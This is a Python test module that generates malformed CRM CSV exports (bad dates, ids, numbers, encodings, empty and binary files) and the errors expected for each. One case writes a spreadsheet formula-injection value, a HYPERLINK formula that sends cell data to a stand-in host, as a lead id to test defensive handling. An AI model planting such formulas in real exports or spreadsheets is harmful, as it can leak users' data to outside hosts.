"""A corpus of bad CRM files made from one small synthetic CRM, written by the tests (no committed binaries).

Each case is the clean export with one thing wrong, as real exports go wrong: epoch or day-first
dates, zero-padded or mixed ids, decimal commas, text, ``inf`` or ``NaN`` in numbers, header-only
and empty tables, other encodings, binary files, a JSON file named .csv, formula-like ids. A
case either reads the same as the clean export (``same=True``) or is refused with a message
matching ``message``.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pandas as pd

TABLES = ("leads", "events", "deals")


@dataclass
class Case:
    name: str
    files: dict  # table -> bytes of its CSV
    message: str = ""  # regex the one-line error must match; empty for a case that reads right
    args: tuple = ()  # extra command-line arguments
    same: bool = False  # reads the same as the clean export
    ids: dict = field(default_factory=dict)  # clean lead id -> id as this case writes it

    def write(self, folder: Path, clean: Path) -> dict:
        """Write the case's files into ``folder`` (clean ones for the rest); returns table -> path."""
        folder.mkdir(parents=True, exist_ok=True)
        paths = {}
        for table in TABLES:
            path = folder / f"{table}.csv"
            path.write_bytes(self.files.get(table, (clean / f"{table}.csv").read_bytes()))
            paths[table] = path
        return paths


def clean_tables(crm) -> dict:
    """The synthetic CRM as an export writes it: timestamps to the second, ISO 8601."""
    leads = crm.leads.assign(created_at=crm.leads["created_at"].dt.floor("s"))
    events = crm.events.assign(occurred_at=crm.events["occurred_at"].dt.floor("s"))
    deals = crm.deals.assign(closed_at=crm.deals["closed_at"].dt.floor("s"))
    return {"leads": leads, "events": events, "deals": deals}


def write_clean(tables: dict, folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, frame in tables.items():
        frame.to_csv(folder / f"{name}.csv", index=False, date_format="%Y-%m-%d %H:%M:%S")
    return folder


def corpus(tables: dict) -> list[Case]:
    """Every case of the issue's list that a file can carry."""
    leads, events, deals = tables["leads"], tables["events"], tables["deals"]

    def csv(frame, **options) -> bytes:
        return frame.to_csv(index=False, date_format="%Y-%m-%d %H:%M:%S", **options).encode()

    def epoch(values, scale=1):
        return (values.astype("datetime64[s]").astype(np.int64) * scale).astype(str)

    day_first = leads.assign(created_at=leads["created_at"].dt.strftime("%d/%m/%Y %H:%M:%S"))
    early = leads["created_at"].dt.day <= 12
    ambiguous = leads.loc[early].assign(created_at=leads.loc[early, "created_at"].dt.strftime("%d/%m/%Y %H:%M:%S"))
    padded = {value: f"{value:09d}" for value in leads["lead_id"]}
    text_id = leads["lead_id"].iloc[7]
    comma = leads.assign(company_size=leads["company_size"].map(lambda v: "" if pd.isna(v) else f"{v:.1f}".replace(".", ",")),
                         annual_revenue=leads["annual_revenue"].map(
                             lambda v: "" if pd.isna(v) else f"{v:,.2f}".replace(",", " ").replace(".", ",")
                             .replace(" ", ".")))
    json_rows = json.dumps(leads.head(60).astype(str).to_dict(orient="records")).encode()
    formula = leads.assign(lead_id=leads["lead_id"].astype(str))
    formula.loc[3, "lead_id"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
    events_formula = events.assign(lead_id=events["lead_id"].astype(str).replace(
        str(leads["lead_id"].iloc[3]), formula.loc[3, "lead_id"]))
    deals_formula = deals.assign(lead_id=deals["lead_id"].astype(str).replace(
        str(leads["lead_id"].iloc[3]), formula.loc[3, "lead_id"]))
    pii = leads.assign(tel="+44 20 7946 0000", contact="Ana Example", address="1 Main Street")
    pii.loc[5, "created_at"] = pd.Timestamp("2031-01-01")
    header = {table: csv(frame.head(0)) for table, frame in tables.items()}
    # German thousands and no decimals anywhere: "1.200" is twelve hundred or one point two.
    thousands = leads.assign(
        company_size=leads["company_size"].map(lambda v: "" if pd.isna(v) else f"{v:,.0f}".replace(",", ".")),
        annual_revenue=leads["annual_revenue"].map(lambda v: "" if pd.isna(v) else f"{v:.0f}"))
    return [
        Case("created_at in epoch seconds", {"leads": csv(leads.assign(created_at=epoch(leads["created_at"])))},
             same=True),
        Case("created_at in epoch milliseconds",
             {"leads": csv(leads.assign(created_at=epoch(leads["created_at"], 1000)))}, same=True),
        Case("occurred_at in epoch seconds", {"events": csv(events.assign(occurred_at=epoch(events["occurred_at"])))},
             same=True),
        Case("day-first dates, some day above 12", {"leads": csv(day_first)}, same=True),
        # 12 digits as epoch milliseconds would be 1976: calendar digits are read as such.
        Case("occurred_at as YYYYMMDDHHMMSS", {"events": csv(events.assign(
            occurred_at=events["occurred_at"].dt.strftime("%Y%m%d%H%M%S")))}, same=True),
        Case("created_at as YYYYMMDDHHMMSS", {"leads": csv(leads.assign(
            created_at=leads["created_at"].dt.strftime("%Y%m%d%H%M%S")))}, same=True),
        Case("a column named twice in the header", {"leads": csv(leads.assign(copy=leads["industry"])).replace(
            b",copy\n", b",industry\n", 1)},
             message=r"leads\.csv: the header names a column more than once \('industry' in columns 4, 10\)"),
        Case("thousands with dots and no decimals", {"leads": csv(thousands)},
             message=r"leads\.csv: numbers such as '\d\.\d{3}' read two ways .*set \[data\] decimal"),
        Case("day-first dates, every day 12 or less", {"leads": csv(ambiguous), "deals": csv(
            deals[deals["lead_id"].isin(ambiguous["lead_id"])]), "events": csv(
            events[events["lead_id"].isin(ambiguous["lead_id"])])},
            message=r"created_at' holds dates like '\d\d/\d\d/\d{4} .*' whose day and month cannot be told apart.*"
                    r"date_format = \"%d/%m/%Y\".*--date-format"),
        Case("mixed date formats in one column", {"leads": csv(leads.assign(created_at=np.where(
            np.arange(len(leads)) % 2 == 0, leads["created_at"].dt.strftime("%Y-%m-%d %H:%M:%S"),
            leads["created_at"].dt.strftime("%d/%m/%Y %H:%M:%S"))))},
            message=r"created_at' must hold a timestamp in one format .* values are not ISO 8601 .*Example rows: row 2: "),
        Case("zero-padded ids", {"leads": csv(leads.assign(lead_id=leads["lead_id"].map(padded))),
                                 "events": csv(events.assign(lead_id=events["lead_id"].map(padded))),
                                 "deals": csv(deals.assign(lead_id=deals["lead_id"].map(padded)))},
             same=True, ids=padded),
        Case("one text id among numbers", {"leads": csv(leads.assign(lead_id=leads["lead_id"].astype(str).replace(
            str(text_id), "L-TEXT"))), "events": csv(events.assign(lead_id=events["lead_id"].astype(str).replace(
                str(text_id), "L-TEXT"))), "deals": csv(deals.assign(lead_id=deals["lead_id"].astype(str).replace(
                    str(text_id), "L-TEXT")))}, same=True, ids={text_id: "L-TEXT"}),
        Case("decimal commas, semicolon-delimited", {"leads": csv(comma, sep=";")}, same=True),
        Case("text in company_size", {"leads": csv(leads.assign(company_size=leads["company_size"].astype(object)
                                                                .where(leads.index != 9, "about fifty")))},
             message=r"column 'company_size' must hold numbers .*'about fifty'.*Example rows: row 10: "),
        Case("inf in company_size", {"leads": csv(leads.assign(company_size=leads["company_size"].astype(object)
                                                               .where(leads.index != 4, "inf")))},
             message=r"column 'company_size' must hold numbers .*'inf'.*Example rows: row 5: "),
        Case("NaN written in annual_revenue", {"leads": csv(leads.assign(
            annual_revenue=leads["annual_revenue"].astype(object).where(leads.index != 2, "NaN")))},
            message=r"column 'annual_revenue' must hold numbers .*'NaN'.*Example rows: row 3: "),
        Case("text deal amounts", {"deals": csv(deals.assign(amount=deals["amount"].astype(object)
                                                             .where(deals.index != 1, "n/a - ask finance")))},
             message=r"column 'amount' must hold numbers \(or nothing\); 1 other values\. Example rows: row 2: "),
        Case("header-only events", {"events": header["events"]},
             message=r"events\.csv: the events table has no rows"),
        Case("header-only leads", {"leads": header["leads"]}, message=r"leads\.csv: the leads table has no rows"),
        Case("empty deals file", {"deals": b""}, message=r"deals\.csv: the file is empty"),
        Case("events in Windows-1252", {"events": csv(events.assign(channel="caf\u00e9")).decode()
                                        .encode("cp1252")},
             message=r"events\.csv: expected text encoded as utf-8; found Windows-1252"),
        Case("events in UTF-16", {"events": csv(events).decode().encode("utf-16")},
             message=r"events\.csv: expected text encoded as utf-8; found UTF-16 \(byte-order mark\)"),
        Case("events as binary", {"events": bytes(range(256)) * 64},
             message=r"events\.csv: expected text encoded as utf-8; found binary data"),
        Case("a JSON file named leads.csv", {"leads": json_rows},
             message=r"leads\.csv: (missing column|could not read|the leads table has no rows)"),
        Case("personal data in columns named tel, contact, address",
             {"leads": csv(pii)}, message=r"column 'created_at' must hold no timestamp in the future.*tel='<redacted>'.*"
                                          r"contact='<redacted>'.*address='<redacted>'"),
        Case("a formula as lead id", {"leads": csv(formula), "events": csv(events_formula),
                                      "deals": csv(deals_formula)}, same=True,
             ids={leads["lead_id"].iloc[3]: formula.loc[3, "lead_id"]}),
    ]
